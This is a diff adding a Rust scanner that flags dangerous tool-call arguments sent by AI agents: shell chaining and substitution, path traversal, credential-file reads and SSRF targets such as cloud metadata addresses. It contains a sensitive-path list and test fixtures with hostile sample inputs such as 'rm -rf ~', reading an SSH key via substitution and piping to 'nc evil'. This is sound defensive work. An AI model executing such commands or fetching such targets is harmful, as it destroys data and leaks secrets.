@@ -1,0 +1,680 @@
+//! Argument hazards (command-injection defence): tool-call arguments that would reach a
+//! shell, a file system or a network in a dangerous way.
+//!
+//! A tool's name and its parameters' names say where each argument goes. A parameter is a
+//! - **command** sink when its name says so (`command`, `cmd`, `script`, …) or the tool is a
+//!   shell (`run_shell`, `exec`, `terminal`, …) and the parameter is not a path;
+//! - **path** sink when its name says so (`path`, `file`, `dir`, `cwd`, …);
+//! - **URL** sink when its name says so (`url`, `uri`, `endpoint`, `webhook`, …) or the tool
+//!   fetches (`fetch`, `http_get`, `browse`, `download`, …), and **host** sink for parameters
+//!   named `host`, `hostname`, `ip`, `address`.
+//!
+//! Only sinks are checked: a URL or a semicolon in a note for a chat tool is text, not a
+//! target or a command.
+//!
+//! Checks: shell chaining, substitution, pipes and redirection in command sinks; `..`
+//! traversal (also percent-encoded and with backslashes), NUL bytes and credential or system
+//! files in path sinks; loopback, private, link-local, cloud-metadata and unspecified
+//! addresses (in every spelling the WHATWG URL parser accepts: decimal, octal, hex,
+//! IPv4-mapped IPv6) and non-web schemes in URL and host sinks.
+//!
+//! Invariants: checking never panics, reads each argument once, and is bounded (depth 32, at
+//! most 4,096 strings); a finding names the rule and the argument's JSON Pointer, never the
+//! value.
+
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
+
+use serde_json::Value;
+
+use crate::escape_pointer;
+
+/// Where a parameter's value goes.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+struct Sinks {
+    command: bool,
+    path: bool,
+    url: bool,
+    host: bool,
+}
+
+/// What a tool does, from its name.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+struct ToolKind {
+    shell: bool,
+    fetch: bool,
+}
+
+/// One hazard: the rule and the argument's JSON Pointer.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Hazard {
+    /// Rule ID (`hazard.shell.chain`, `hazard.path.traversal`, `hazard.ssrf.metadata`, …).
+    pub rule: &'static str,
+    /// JSON Pointer of the argument within `arguments`.
+    pub path: String,
+}
+
+fn words(name: &str) -> Vec<String> {
+    // snake_case, kebab-case, camelCase and dotted names all split into lower-case words.
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut prev_lower = false;
+    for c in name.chars() {
+        if !c.is_alphanumeric() {
+            if !cur.is_empty() {
+                out.push(std::mem::take(&mut cur));
+            }
+            prev_lower = false;
+            continue;
+        }
+        if c.is_uppercase() && prev_lower && !cur.is_empty() {
+            out.push(std::mem::take(&mut cur));
+        }
+        prev_lower = c.is_lowercase() || c.is_ascii_digit();
+        cur.extend(c.to_lowercase());
+    }
+    if !cur.is_empty() {
+        out.push(cur);
+    }
+    out
+}
+
+const COMMAND_WORDS: &[&str] = &[
+    "command",
+    "commands",
+    "cmd",
+    "cmdline",
+    "commandline",
+    "shell",
+    "script",
+    "bash",
+    "sh",
+    "zsh",
+    "powershell",
+    "pwsh",
+    "exec",
+];
+
+const SHELL_TOOL_WORDS: &[&str] = &[
+    "shell",
+    "exec",
+    "execute",
+    "terminal",
+    "bash",
+    "powershell",
+    "cmd",
+    "command",
+    "subprocess",
+    "spawn",
+];
+
+const PATH_WORDS: &[&str] = &[
+    "path",
+    "paths",
+    "file",
+    "files",
+    "filename",
+    "filepath",
+    "dir",
+    "directory",
+    "folder",
+    "cwd",
+    "workdir",
+    "dest",
+    "destination",
+    "src",
+    "source",
+    "target",
+    "location",
+];
+
+const HOST_WORDS: &[&str] = &["host", "hostname", "ip", "address", "server", "domain"];
+
+const URL_WORDS: &[&str] = &[
+    "url", "urls", "uri", "uris", "href", "link", "endpoint", "webhook", "callback", "redirect",
+];
+
+const FETCH_TOOL_WORDS: &[&str] = &[
+    "fetch", "http", "https", "request", "browse", "browser", "download", "crawl", "scrape",
+    "curl", "wget", "navigate", "url", "webhook", "get", "post", "visit", "open",
+];
+
+fn sinks_of(tool: ToolKind, param: &str) -> Sinks {
+    let w = words(param);
+    let has = |list: &[&str]| w.iter().any(|x| list.contains(&x.as_str()));
+    let path = has(PATH_WORDS);
+    Sinks {
+        command: has(COMMAND_WORDS) || (tool.shell && !path),
+        path,
+        url: has(URL_WORDS) || tool.fetch,
+        host: has(HOST_WORDS),
+    }
+}
+
+/// What the tool does, from its name.
+fn tool_kind(tool: Option<&str>) -> ToolKind {
+    let Some(name) = tool else {
+        return ToolKind::default();
+    };
+    let w = words(name);
+    let has = |list: &[&str]| w.iter().any(|x| list.contains(&x.as_str()));
+    // `get_weather` is not a fetcher, `http_get` and `fetch_url` are: "get", "post" and
+    // "open" count only next to a web word.
+    let web = w.iter().any(|x| {
+        matches!(
+            x.as_str(),
+            "http" | "https" | "url" | "web" | "page" | "webpage" | "site" | "website" | "link"
+        )
+    });
+    let fetch = w.iter().any(|x| {
+        FETCH_TOOL_WORDS.contains(&x.as_str())
+            && (!matches!(x.as_str(), "get" | "post" | "open" | "request") || web)
+    });
+    ToolKind {
+        shell: has(SHELL_TOOL_WORDS),
+        fetch,
+    }
+}
+
+/// The hazards in `arguments` of a call to the tool named `tool` (the upstream's own name,
+/// when known).
+#[must_use]
+pub fn scan(tool: Option<&str>, arguments: &Value) -> Vec<Hazard> {
+    let kind = tool_kind(tool);
+    let mut out = Vec::new();
+    let mut budget = 4096usize;
+    if let Value::Object(map) = arguments {
+        for (k, v) in map {
+            let path = format!("/{}", escape_pointer(k));
+            walk(v, sinks_of(kind, k), &path, 0, &mut budget, &mut out);
+        }
+    } else {
+        let sinks = Sinks {
+            url: kind.fetch,
+            command: kind.shell,
+            ..Sinks::default()
+        };
+        walk(arguments, sinks, "", 0, &mut budget, &mut out);
+    }
+    out
+}
+
+fn walk(
+    v: &Value,
+    sinks: Sinks,
+    path: &str,
+    depth: usize,
+    budget: &mut usize,
+    out: &mut Vec<Hazard>,
+) {
+    if depth > 32 || *budget == 0 {
+        return;
+    }
+    match v {
+        Value::String(s) => {
+            *budget -= 1;
+            check(s, sinks, path, out);
+        }
+        Value::Array(items) => {
+            for (i, item) in items.iter().enumerate() {
+                walk(item, sinks, &format!("{path}/{i}"), depth + 1, budget, out);
+            }
+        }
+        Value::Object(map) => {
+            for (k, item) in map {
+                // A nested object's own keys name their sinks; an outer sink still applies.
+                let inner = sinks_of(ToolKind::default(), k);
+                let merged = Sinks {
+                    command: sinks.command || inner.command,
+                    path: sinks.path || inner.path,
+                    url: sinks.url || inner.url,
+                    host: sinks.host || inner.host,
+                };
+                walk(
+                    item,
+                    merged,
+                    &format!("{path}/{}", escape_pointer(k)),
+                    depth + 1,
+                    budget,
+                    out,
+                );
+            }
+        }
+        Value::Null | Value::Bool(_) | Value::Number(_) => {}
+    }
+}
+
+fn push(out: &mut Vec<Hazard>, rule: &'static str, path: &str) {
+    if !out.iter().any(|h| h.rule == rule && h.path == path) {
+        out.push(Hazard {
+            rule,
+            path: path.to_owned(),
+        });
+    }
+}
+
+fn check(s: &str, sinks: Sinks, path: &str, out: &mut Vec<Hazard>) {
+    if sinks.command {
+        shell(s, path, out);
+    }
+    if sinks.path {
+        file_path(s, path, out);
+    }
+    let url_like = s.contains("://") || s.trim_start().to_ascii_lowercase().starts_with("file:");
+    if url_like && (sinks.url || sinks.host) {
+        url_target(s.trim(), path, out);
+    } else if sinks.host && !url_like {
+        bare_host(s.trim(), path, out);
+    }
+}
+
+// ---------------------------------------------------------------- shell
+
+fn shell(s: &str, path: &str, out: &mut Vec<Hazard>) {
+    let b = s.as_bytes();
+    if s.contains("$(") || s.contains('`') || s.contains("${") || s.contains("<(") {
+        push(out, "hazard.shell.substitution", path);
+    }
+    let mut chain = s.contains(';') || s.contains("&&") || s.contains("||") || s.contains('\n');
+    let mut pipe = false;
+    let mut redirect = false;
+    for (i, &c) in b.iter().enumerate() {
+        let prev = i.checked_sub(1).and_then(|j| b.get(j)).copied();
+        let next = b.get(i + 1).copied();
+        match c {
+            b'&' if prev != Some(b'&') && next != Some(b'&') && prev != Some(b'>') => {
+                chain = true;
+            }
+            b'|' if prev != Some(b'|') && next != Some(b'|') => pipe = true,
+            b'>' | b'<' if prev != Some(b'$') => redirect = true,
+            _ => {}
+        }
+    }
+    if chain {
+        push(out, "hazard.shell.chain", path);
+    }
+    if pipe {
+        push(out, "hazard.shell.pipe", path);
+    }
+    if redirect {
+        push(out, "hazard.shell.redirect", path);
+    }
+}
+
+// ---------------------------------------------------------------- paths
+
+/// Files whose reading leaks credentials or whose writing takes over a system.
+const SENSITIVE_PATHS: &[&str] = &[
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/sudoers",
+    "/etc/ssh/",
+    "/proc/self/",
+    "/proc/1/",
+    "/root/",
+    "/var/run/docker.sock",
+    "/run/docker.sock",
+    "/.ssh/",
+    "~/.ssh",
+    "id_rsa",
+    "id_ed25519",
+    "id_ecdsa",
+    "/.aws/",
+    "~/.aws",
+    "/.azure/",
+    "/.config/gcloud",
+    "/.kube/config",
+    "/.docker/config.json",
+    "/.git-credentials",
+    "/.netrc",
+    "/.npmrc",
+    "/.pypirc",
+    "/.bash_history",
+    "/.zsh_history",
+    "/.gnupg/",
+    "claude_desktop_config.json",
+    "/.cursor/mcp.json",
+    "/mcp.json",
+];
+
+fn percent_decoded(s: &str) -> String {
+    let mut cur = s.to_owned();
+    // Twice: `%252e%252e` is `..` to a server that decodes once more than the gateway.
+    for _ in 0..2 {
+        let next = percent_encoding::percent_decode_str(&cur)
+            .decode_utf8_lossy()
+            .into_owned();
+        if next == cur {
+            break;
+        }
+        cur = next;
+    }
+    cur
+}
+
+fn file_path(s: &str, path: &str, out: &mut Vec<Hazard>) {
+    let decoded = percent_decoded(s).replace('\\', "/");
+    if decoded.contains('\0') {
+        push(out, "hazard.path.nul", path);
+    }
+    let p = decoded.strip_prefix("file://").unwrap_or(&decoded);
+    if p.split('/').any(|seg| seg.trim() == "..") {
+        push(out, "hazard.path.traversal", path);
+    }
+    let lower = p.to_lowercase();
+    let env_file = lower
+        .rsplit('/')
+        .next()
+        .is_some_and(|last| last == ".env" || last.starts_with(".env."));
+    if env_file || SENSITIVE_PATHS.iter().any(|x| lower.contains(x)) {
+        push(out, "hazard.path.sensitive", path);
+    }
+}
+
+// ---------------------------------------------------------------- network targets
+
+/// Schemes a fetching tool should never be pointed at.
+const BAD_SCHEMES: &[&str] = &[
+    "file", "gopher", "dict", "ldap", "ldaps", "jar", "netdoc", "tftp", "php", "expect", "phar",
+    "smb", "sftp",
+];
+
+fn url_target(s: &str, path: &str, out: &mut Vec<Hazard>) {
+    // The string may hold a URL among other words; check each absolute URL in it.
+    for word in s.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>')) {
+        let Some(colon) = word.find(':') else {
+            continue;
+        };
+        let scheme = word.get(..colon).unwrap_or("").to_ascii_lowercase();
+        if scheme.is_empty()
+            || !scheme
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b == b'+')
+        {
+            continue;
+        }
+        if BAD_SCHEMES.contains(&scheme.as_str()) {
+            push(out, "hazard.ssrf.scheme", path);
+            continue;
+        }
+        let Ok(url) = url::Url::parse(word) else {
+            continue;
+        };
+        match url.host() {
+            Some(url::Host::Ipv4(ip)) => ip_target(IpAddr::V4(ip), path, out),
+            Some(url::Host::Ipv6(ip)) => ip_target(IpAddr::V6(ip), path, out),
+            Some(url::Host::Domain(d)) => domain_target(d, path, out),
+            None => {}
+        }
+    }
+}
+
+fn bare_host(s: &str, path: &str, out: &mut Vec<Hazard>) {
+    let host = s
+        .trim_start_matches('[')
+        .split(']')
+        .next()
+        .unwrap_or(s)
+        .to_owned();
+    if let Ok(ip) = host.parse::<IpAddr>() {
+        return ip_target(ip, path, out);
+    }
+    // `host:port`, and every IPv4 spelling the URL parser accepts.
+    if let Ok(url) = url::Url::parse(&format!("http://{s}/")) {
+        match url.host() {
+            Some(url::Host::Ipv4(ip)) => ip_target(IpAddr::V4(ip), path, out),
+            Some(url::Host::Ipv6(ip)) => ip_target(IpAddr::V6(ip), path, out),
+            Some(url::Host::Domain(d)) => domain_target(d, path, out),
+            None => {}
+        }
+    }
+}
+
+fn domain_target(d: &str, path: &str, out: &mut Vec<Hazard>) {
+    let d = d.trim_end_matches('.').to_ascii_lowercase();
+    if d == "localhost" || d.ends_with(".localhost") {
+        push(out, "hazard.ssrf.loopback", path);
+    } else if matches!(
+        d.as_str(),
+        "metadata.google.internal" | "metadata" | "instance-data" | "metadata.azure.com"
+    ) || d.ends_with(".internal")
+    {
+        push(out, "hazard.ssrf.metadata", path);
+    } else if let Some(ip) = embedded_ip(&d) {
+        // `127.0.0.1.nip.io` and kin resolve to the address they spell.
+        let mut inner = Vec::new();
+        ip_target(IpAddr::V4(ip), path, &mut inner);
+        if !inner.is_empty() {
+            push(out, "hazard.ssrf.rebinding", path);
+        }
+    }
+}
+
+/// A dotted or dashed IPv4 address spelled inside a host name.
+fn embedded_ip(d: &str) -> Option<Ipv4Addr> {
+    let labels: Vec<&str> = d.split(['.', '-']).collect();
+    labels.windows(4).find_map(|w| {
+        let octets: Option<Vec<u8>> = w.iter().map(|x| x.parse::<u8>().ok()).collect();
+        match octets.as_deref() {
+            Some([a, b, c, e]) => Some(Ipv4Addr::new(*a, *b, *c, *e)),
+            _ => None,
+        }
+    })
+}
+
+fn ip_target(ip: IpAddr, path: &str, out: &mut Vec<Hazard>) {
+    let ip = match ip {
+        IpAddr::V6(v6) => match v6.to_ipv4_mapped() {
+            Some(v4) => IpAddr::V4(v4),
+            None => IpAddr::V6(v6),
+        },
+        v4 @ IpAddr::V4(_) => v4,
+    };
+    let rule = match ip {
+        IpAddr::V4(v4) => v4_rule(v4),
+        IpAddr::V6(v6) => v6_rule(v6),
+    };
+    if let Some(rule) = rule {
+        push(out, rule, path);
+    }
+}
+
+fn v4_rule(ip: Ipv4Addr) -> Option<&'static str> {
+    let [a, b, ..] = ip.octets();
+    if ip == Ipv4Addr::new(169, 254, 169, 254)
+        || ip == Ipv4Addr::new(169, 254, 170, 2)
+        || ip == Ipv4Addr::new(100, 100, 100, 200)
+    {
+        Some("hazard.ssrf.metadata")
+    } else if ip.is_loopback() || ip.is_unspecified() || a == 0 {
+        Some("hazard.ssrf.loopback")
+    } else if ip.is_private()
+        || ip.is_link_local()
+        || (a == 100 && (64..128).contains(&b))
+        || ip.is_broadcast()
+        || (a == 198 && (b == 18 || b == 19))
+    {
+        Some("hazard.ssrf.private")
+    } else {
+        None
+    }
+}
+
+fn v6_rule(ip: Ipv6Addr) -> Option<&'static str> {
+    let seg = ip.segments();
+    let first = seg.first().copied().unwrap_or(0);
+    if ip == Ipv6Addr::new(0xfd00, 0x0ec2, 0, 0, 0, 0, 0, 0x0254) {
+        Some("hazard.ssrf.metadata")
+    } else if ip.is_loopback() || ip.is_unspecified() {
+        Some("hazard.ssrf.loopback")
+    } else if (first & 0xfe00) == 0xfc00 || (first & 0xffc0) == 0xfe80 {
+        Some("hazard.ssrf.private")
+    } else {
+        None
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn rules(def: Value, args: Value) -> Vec<&'static str> {
+        scan(def["name"].as_str(), &args)
+            .into_iter()
+            .map(|h| h.rule)
+            .collect()
+    }
+
+    #[test]
+    fn shell_metacharacters_in_command_sinks() {
+        let tool = json!({"name": "run_shell"});
+        assert!(rules(tool.clone(), json!({"command": "ls -la /tmp"})).is_empty());
+        assert_eq!(
+            rules(tool.clone(), json!({"command": "ls; rm -rf ~"})),
+            ["hazard.shell.chain"]
+        );
+        assert_eq!(
+            rules(
+                tool.clone(),
+                json!({"command": "echo $(cat ~/.ssh/id_rsa)"})
+            ),
+            ["hazard.shell.substitution"]
+        );
+        assert_eq!(
+            rules(tool.clone(), json!({"input": "a | nc evil 80"})),
+            ["hazard.shell.pipe"]
+        );
+        assert_eq!(
+            rules(tool.clone(), json!({"args": ["x", "y && curl z"]})),
+            ["hazard.shell.chain"]
+        );
+        // The same text in a note of a non-shell tool is not a shell argument.
+        assert!(rules(json!({"name": "save_note"}), json!({"text": "a; b | c"})).is_empty());
+        // A parameter named for commands is a command sink in any tool.
+        assert_eq!(
+            rules(
+                json!({"name": "deploy"}),
+                json!({"cmd": "make && sudo make install"})
+            ),
+            ["hazard.shell.chain"]
+        );
+    }
+
+    #[test]
+    fn traversal_and_sensitive_files_in_path_sinks() {
+        let tool = json!({"name": "read_file"});
+        assert!(rules(tool.clone(), json!({"path": "/srv/data/report.txt"})).is_empty());
+        assert_eq!(
+            rules(tool.clone(), json!({"path": "../../etc/hosts"})),
+            ["hazard.path.traversal"]
+        );
+        assert_eq!(
+            rules(tool.clone(), json!({"path": "docs/%2e%2e/%2e%2e/x"})),
+            ["hazard.path.traversal"]
+        );
+        assert_eq!(
+            rules(
+                tool.clone(),
+                json!({"filePath": "..\\..\\windows\\win.ini"})
+            ),
+            ["hazard.path.traversal"]
+        );
+        assert_eq!(
+            rules(tool.clone(), json!({"path": "/home/u/.ssh/id_rsa"})),
+            ["hazard.path.sensitive"]
+        );
+        assert_eq!(
+            rules(tool.clone(), json!({"file": "app/.env"})),
+            ["hazard.path.sensitive"]
+        );
+        assert_eq!(
+            rules(tool, json!({"path": "a.txt\u{0}.png"})),
+            ["hazard.path.nul"]
+        );
+    }
+
+    #[test]
+    fn internal_network_targets_in_any_spelling() {
+        let tool = json!({"name": "fetch"});
+        assert!(rules(tool.clone(), json!({"url": "https://example.com/a?b=c"})).is_empty());
+        for (url, rule) in [
+            (
+                "http://169.254.169.254/latest/meta-data/",
+                "hazard.ssrf.metadata",
+            ),
+            (
+                "http://metadata.google.internal/computeMetadata/v1/",
+                "hazard.ssrf.metadata",
+            ),
+            ("http://127.0.0.1:6379/", "hazard.ssrf.loopback"),
+            ("http://2130706433/", "hazard.ssrf.loopback"),
+            ("http://0x7f.1/", "hazard.ssrf.loopback"),
+            ("http://0177.0.0.1/", "hazard.ssrf.loopback"),
+            ("http://[::ffff:127.0.0.1]/", "hazard.ssrf.loopback"),
+            ("http://[::1]:8080/", "hazard.ssrf.loopback"),
+            ("http://localhost/admin", "hazard.ssrf.loopback"),
+            ("http://0.0.0.0:9200/", "hazard.ssrf.loopback"),
+            ("https://10.0.0.5/", "hazard.ssrf.private"),
+            ("http://192.168.1.1/", "hazard.ssrf.private"),
+            ("http://[fd12::1]/", "hazard.ssrf.private"),
+            ("http://127.0.0.1.nip.io/", "hazard.ssrf.rebinding"),
+            ("file:///etc/passwd", "hazard.ssrf.scheme"),
+            ("gopher://x:70/_SET", "hazard.ssrf.scheme"),
+        ] {
+            assert_eq!(rules(tool.clone(), json!({"url": url})), [rule], "{url}");
+        }
+        // A fetching tool's arguments are targets whatever they are called; another tool's
+        // are targets only under a URL-like name.
+        assert_eq!(
+            rules(
+                tool.clone(),
+                json!({"q": "see http://169.254.169.254/ now"})
+            ),
+            ["hazard.ssrf.metadata"]
+        );
+        assert!(
+            rules(
+                json!({"name": "post_message"}),
+                json!({"text": "our box is http://10.0.0.5/"})
+            )
+            .is_empty()
+        );
+        assert_eq!(
+            rules(
+                json!({"name": "create_hook"}),
+                json!({"webhookUrl": "http://127.0.0.1:2375/"})
+            ),
+            ["hazard.ssrf.loopback"]
+        );
+        assert!(
+            rules(
+                json!({"name": "get_weather"}),
+                json!({"q": "http://127.0.0.1/"})
+            )
+            .is_empty()
+        );
+        assert_eq!(
+            rules(
+                json!({"name": "http_get"}),
+                json!({"q": "http://127.0.0.1/"})
+            ),
+            ["hazard.ssrf.loopback"]
+        );
+        assert_eq!(
+            rules(tool, json!({"host": "10.1.2.3:22"})),
+            ["hazard.ssrf.private"]
+        );
+    }
+
+    #[test]
+    fn bounded_on_any_input() {
+        let mut v = json!("$(x)");
+        for _ in 0..200 {
+            v = json!({"command": v});
+        }
+        assert!(scan(None, &v).len() <= 1);
+        let wide = Value::Array(vec![json!("http://127.0.0.1/"); 100_000]);
+        assert!(scan(None, &json!({"url": wide})).len() <= 4096);
+        assert!(words("getHTTPUrlPath").contains(&"path".to_owned()));
+    }
+}
